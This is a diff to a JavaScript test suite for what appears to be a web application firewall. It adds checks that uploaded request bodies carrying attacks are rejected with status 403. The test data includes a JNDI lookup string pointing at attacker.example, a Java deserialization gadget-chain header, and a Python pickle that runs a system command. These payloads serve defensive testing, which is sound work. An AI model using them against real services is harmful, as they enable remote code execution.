@@ -344,6 +344,18 @@ test('a body that is a file (an image, a PDF, octet-stream) is inspected as an u
   assert.equal((await put('/files/log.txt', 'application/octet-stream', `user agent ${JNDI}\n`)).status, 403);
   // JSON sent as a file to a backend that parses every body: escapes are decoded as that backend decodes them
   assert.equal((await put('/files/a', 'application/octet-stream', '{"a":"\\u0024{jndi:ldap://attacker.example/a}"}')).status, 403);
+  // a serialized object stream, which a backend that deserializes the body would turn into a gadget chain
+  const java = Buffer.concat([Buffer.from('aced0005737200', 'hex'), Buffer.from('\x32sun.reflect.annotation.AnnotationInvocationHandler', 'latin1'), pixels.subarray(0, 200)]);
+  const gadget = await put('/invoker/readonly', 'application/octet-stream', java);
+  assert.equal(gadget.status, 403);
+  assert.equal(gadget.problem.reason, 'java_detected');
+  const pickle = Buffer.from('\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.', 'latin1');
+  const model = await send('/models', {
+    method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' },
+    body: Buffer.concat([Buffer.from('--b\r\nContent-Disposition: form-data; name="model"; filename="model.pkl"\r\nContent-Type: application/octet-stream\r\n\r\n'), pickle, Buffer.from('\r\n--b--\r\n')]),
+  });
+  assert.equal(model.status, 403);
+  assert.equal(model.problem.reason, 'code_detected');
   assert.equal(upstream.requests.length, count + 3, 'no attack reached the upstream');
 });
 
